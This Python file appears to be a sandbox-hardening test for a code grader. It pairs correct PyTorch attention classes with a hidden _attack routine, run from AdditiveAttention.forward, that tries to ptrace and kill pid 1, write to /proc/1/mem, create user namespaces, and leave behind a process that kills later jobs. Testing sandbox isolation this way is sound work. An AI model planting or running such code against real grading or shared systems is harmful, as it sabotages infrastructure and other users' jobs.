"""attack: the sandbox's pid 1 and the fork server: AdditiveAttention.forward tries to ptrace pid 1
and its parent (attach and seize), to write into /proc/1/mem, to kill pid 1, to create a nested user
namespace (unshare and clone with CLONE_NEWUSER), and leaves a process behind that, for up to 15 s,
kills every new process it sees (the children of later submissions).
expect: every attempt fails (the fork server is the namespace's init, not dumpable, and the seccomp
filter denies ptrace and namespaces), so the attacker's own components get full marks (its code is
correct); the lurker dies with the job, later submissions graded by the same fork server get full
marks, and no process survives.
"""
import ctypes
import gc
import math
import os
import signal
import sys
import time

import torch
from torch import nn


def _attack():
    """What succeeded (should be nothing); only inside the sandbox."""
    if not os.path.isdir("/sandbox/runtime") and os.environ.get("HOSTILE_ANYWHERE") != "1":
        return []
    libc = ctypes.CDLL(None, use_errno=True)
    won = []
    for target in {1, os.getppid()}:
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            if libc.ptrace(request, target, 0, 0) == 0:
                won.append(f"ptrace {request} of {target}")
                libc.ptrace(17, target, 0, 0)  # PTRACE_DETACH
    try:
        with open("/proc/1/mem", "r+b") as mem:
            mem.seek(0x400000)
            mem.write(b"\xcc")
            won.append("wrote /proc/1/mem")
    except OSError:
        pass
    if libc.unshare(0x10000000) == 0:
        won.append("unshare(CLONE_NEWUSER)")
    child = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)  # clone(CLONE_NEWUSER | SIGCHLD)
    if child == 0:
        os._exit(0)
    if child > 0:
        won.append("clone(CLONE_NEWUSER)")
        os.waitpid(child, 0)
    try:
        os.kill(1, signal.SIGKILL)
    except OSError:
        pass
    if os.fork() == 0:  # the lurker: kill every process that appears after us
        os.setsid()
        seen = {int(p) for p in os.listdir("/proc") if p.isdigit()}
        end = time.monotonic() + 15
        while time.monotonic() < end:
            for p in os.listdir("/proc"):
                if p.isdigit() and int(p) not in seen and int(p) != os.getpid():
                    try:
                        os.kill(int(p), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.01)
        os._exit(0)
    return won


def sequence_mask(X, valid_len, value=0):
    keep = torch.arange(X.shape[1], device=X.device).unsqueeze(0) < valid_len.unsqueeze(1)
    return X.masked_fill(~keep, value)


def masked_softmax(X, valid_lens):
    if valid_lens is None:
        return torch.softmax(X, dim=-1)
    shape = X.shape
    if valid_lens.dim() == 1:
        valid_lens = torch.repeat_interleave(valid_lens, shape[1])
    else:
        valid_lens = valid_lens.reshape(-1)
    X = sequence_mask(X.reshape(-1, shape[-1]), valid_lens, value=-1e6)
    return torch.softmax(X.reshape(shape), dim=-1)


class AdditiveAttention(nn.Module):
    def __init__(self, key_size, query_size, num_hiddens, dropout, **kwargs):
        super().__init__(**kwargs)
        self.W_k = nn.Linear(key_size, num_hiddens, bias=False)
        self.W_q = nn.Linear(query_size, num_hiddens, bias=False)
        self.w_v = nn.Linear(num_hiddens, 1, bias=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens):
        won = _attack()
        if won:
            print("ATTACK SUCCEEDED:", won)
            return values * 0  # a successful attack shows as a lost score
        queries, keys = self.W_q(queries), self.W_k(keys)
        features = torch.tanh(queries.unsqueeze(2) + keys.unsqueeze(1))
        scores = self.w_v(features).squeeze(-1)
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)


class DotProductAttention(nn.Module):
    def __init__(self, dropout, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        scores = torch.bmm(queries, keys.transpose(1, 2)) / math.sqrt(queries.shape[-1])
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
